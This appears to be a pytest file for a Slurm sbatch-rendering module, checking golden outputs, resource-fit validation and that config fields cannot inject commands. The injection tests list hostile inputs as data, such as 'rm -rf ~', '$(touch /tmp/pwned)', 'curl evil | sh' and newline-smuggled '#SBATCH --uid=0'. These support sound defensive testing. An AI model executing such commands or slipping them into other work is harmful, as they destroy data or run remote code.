"""sbatch rendering: pure, pinned by golden files, and nothing in a job file can inject a command."""

import os
from pathlib import Path

import pytest

from fastserve.jobs.sbatch import SlurmConfig, check_fits, render, slurm_config
from fastserve.jobs.slurm_job import SlurmJob
from fastserve.pipeline.errors import ConfigError
from fastserve.pipeline.slurm_env import SlurmEnv

GOLDEN = Path(__file__).parent / "golden"
FULL = SlurmConfig(
    partition="gpu",
    account="ml",
    qos="normal",
    nodes=2,
    ntasks_per_node=4,
    gpus_per_node=4,
    cpus_per_task=8,
    mem="256G",
    time="04:00:00",
    job_name="nightly-reviews",
    output="logs/%x-%j.out",
    extra=("--constraint=a100", "--exclusive"),
    setup=("module load cuda/12.4", "source /opt/venvs/fastserve/bin/activate"),
)


@pytest.mark.parametrize("kind", ["infer", "train"])
def test_rendered_scripts_match_the_golden_files(kind):
    got = render(kind, FULL, "/home/ana/jobs/reviews.toml", fastserve="fastserve")
    path = GOLDEN / f"{kind}.sbatch"
    if os.environ.get("FASTSERVE_UPDATE_GOLDEN"):
        path.write_text(got)
    assert got == path.read_text(), (
        f"the rendered {kind} script changed; if that is intended, refresh the golden file with "
        "FASTSERVE_UPDATE_GOLDEN=1 pytest tests/test_submit.py and review the diff"
    )


def test_directives_are_sorted_and_one_node_differs_from_n_only_in_nodes():
    one = render("infer", SlurmConfig(nodes=1), "/j.toml").splitlines()
    many = render("infer", SlurmConfig(nodes=8), "/j.toml").splitlines()
    diff = [(a, b) for a, b in zip(one, many, strict=True) if a != b]
    assert diff == [("#SBATCH --nodes=1", "#SBATCH --nodes=8")]
    sbatch_lines = [x for x in one if x.startswith("#SBATCH")]
    assert sbatch_lines == sorted(sbatch_lines)
    assert "#SBATCH --signal=B:USR1@120" in one and "#SBATCH --requeue" in one


@pytest.mark.parametrize(
    "key,value",
    [
        ("job_name", "x; rm -rf ~"),
        ("job_name", "$(touch /tmp/pwned)"),
        ("job_name", "`id`"),
        ("job_name", "ok\n#SBATCH --uid=0"),
        ("output", "logs/$(touch /tmp/pwned).out"),
        ("output", "logs/`id`.out"),
        ("output", "a.out\nrm -rf ~"),
        ("partition", "gpu;id"),
        ("extra", ["--constraint=a100\necho pwned"]),
        ("extra", ["; id"]),
        ("setup", ["module load x\ncurl evil | sh"]),
        # sbatch splits an #SBATCH line at spaces: each word would be an option of its own
        ("output", "logs/my run.out --uid=0"),
        ("error", "e.out --wrap=id"),
        ("extra", ["--constraint=a100 --uid=0"]),
        ("signal_grace_s", -5),
        ("signal_grace_s", 99999),
    ],
)
def test_injection_attempts_are_refused(key, value):
    with pytest.raises(ConfigError, match=f"slurm.{key}"):
        slurm_config({key: value}, "job.toml")


def test_paths_in_the_command_are_quoted():
    script = render("infer", SlurmConfig(), "/data/a b;c/$(touch pwned)/`id`/job.toml")
    line = next(x for x in script.splitlines() if x.startswith("srun"))
    assert "'/data/a b;c/$(touch pwned)/`id`/job.toml'" in line


def test_misspelled_key_lists_the_valid_ones():
    with pytest.raises(ConfigError) as e:
        slurm_config({"partiton": "gpu"}, "job.toml")
    assert "unknown key 'slurm.partiton'" in str(e.value) and "slurm.partition" in str(e.value)


TRAIN = '[model]\nn_layer = 2\n[data]\npaths = ["c"]\n[parallel]\npp = 2\ndp = 2\n[output]\npath = "r"\n'


def test_a_train_job_gets_one_task_per_rank_of_its_layout(tmp_path):
    from fastserve.jobs.submit import prepare

    job = tmp_path / "train.toml"
    job.write_text(TRAIN)  # no [slurm] table at all
    assert "#SBATCH --ntasks-per-node=4" in prepare("train", str(job)).splitlines()
    job.write_text(TRAIN + "[slurm]\nnodes = 2\n")
    assert "#SBATCH --ntasks-per-node=2" in prepare("train", str(job)).splitlines()
    job.write_text(TRAIN + "[slurm]\nnodes = 3\n")
    with pytest.raises(ConfigError, match="do not spread evenly over slurm.nodes = 3"):
        prepare("train", str(job))
    job.write_text(TRAIN + "[slurm]\nntasks_per_node = 3\n")
    with pytest.raises(ConfigError, match="3 tasks, but parallel dp x tp x pp = 4 ranks"):
        prepare("train", str(job))


def test_a_job_no_node_can_hold_is_refused_and_overcommit_lets_it_through():
    four = SlurmConfig(ntasks_per_node=4, cpus_per_task=2)
    check_fits(four, [8, 16], "job.toml")  # fits the larger node
    with pytest.raises(ConfigError, match=r"job.toml: 4 tasks x 2 CPUs per node.*at most 4 CPUs"):
        check_fits(four, [2, 4], "job.toml")
    check_fits(SlurmConfig(ntasks_per_node=4, cpus_per_task=2, overcommit=True), [2], "j")
    check_fits(four, [], "j")  # nothing known (no sinfo): sbatch decides


def test_more_nodes_than_the_partition_has_is_refused_even_overcommitted():
    three = SlurmConfig(nodes=3, overcommit=True, partition="debug")
    check_fits(three, [2, 2, 2], "job.toml")
    with pytest.raises(ConfigError, match=r"job.toml: slurm.nodes = 3, but partition debug has 2"):
        check_fits(three, [2, 2], "job.toml")
    uneven = SlurmConfig(nodes=3, ntasks_per_node=8)
    with pytest.raises(ConfigError, match=r"3 nodes of 8 tasks x 1 CPUs, but only 1 node"):
        check_fits(uneven, [64, 2, 2], "job.toml")


def test_sinfo_lines_count_the_default_partition_and_each_node_once():
    from fastserve.jobs.slurm_job import partition_cpus

    lines = "node1 2 debug*\nnode1 2 big\nnode2 4 big\nnode3 4 big\n"
    assert partition_cpus(lines, None) == [2]  # the default partition only
    assert partition_cpus(lines, "big") == [2, 4, 4]
    assert partition_cpus(lines, "debug") == [2]


def test_one_template_serves_both_kinds_and_differs_only_where_they_do():
    infer = render("infer", SlurmConfig(ntasks_per_node=2), "/j.toml").splitlines()
    train = render("train", SlurmConfig(ntasks_per_node=2), "/j.toml").splitlines()
    loop = [x for x in infer if x.startswith(("  ", "while", "done", "trap", "warn", "cancel"))]
    assert loop and loop == [
        x.replace(" 75 ]", " 138 ]")
        for x in train
        if x.startswith(("  ", "while", "done", "trap", "warn", "cancel"))
    ]
    assert [x for x in infer if x.startswith("#SBATCH")] == [
        x for x in train if x.startswith("#SBATCH")
    ]
    assert any("-eq 138 ]" in x for x in infer) and any("-eq 75 ]" in x for x in train)


def test_slurm_job_ids_are_checked():
    assert str(SlurmJob("123")) == "123" and SlurmJob("123_4").job_id == "123_4"
    for bad in ("", "12;rm -rf ~", "abc", "-1"):
        with pytest.raises(ValueError):
            SlurmJob(bad)


def test_the_slurm_environment_is_read_in_one_place():
    outside = SlurmEnv.read({})
    assert not outside.in_step and outside.share == (0, 1) and outside.job_id is None
    env = SlurmEnv.read(
        {
            "SLURM_JOB_ID": "77",
            "SLURM_PROCID": "1",
            "SLURM_NTASKS": "3",
            "SLURM_NNODES": "2",
            "SLURM_CPUS_PER_TASK": "4",
            "SLURM_ARRAY_TASK_ID": "12",
            "SLURM_ARRAY_TASK_MIN": "10",
            "SLURM_ARRAY_TASK_COUNT": "4",
            "SLURM_RESTART_COUNT": "2",
        }
    )
    assert env.in_step and (env.procid, env.ntasks, env.nnodes) == (1, 3, 2)
    assert env.share == (2, 4) and env.cpus_per_task == 4 and env.restart_count == 2


def test_marks_in_a_job_files_setup_lines_stay_inert_text():
    cfg = slurm_config({"setup": ['echo "#@STOP_CODE #@ROLES #@AFTER"']}, "job.toml")
    script = render("infer", cfg, "/j.toml", after="echo next")
    assert 'echo "#@STOP_CODE #@ROLES #@AFTER"' in script.splitlines()
    assert script.count("echo next") == 1
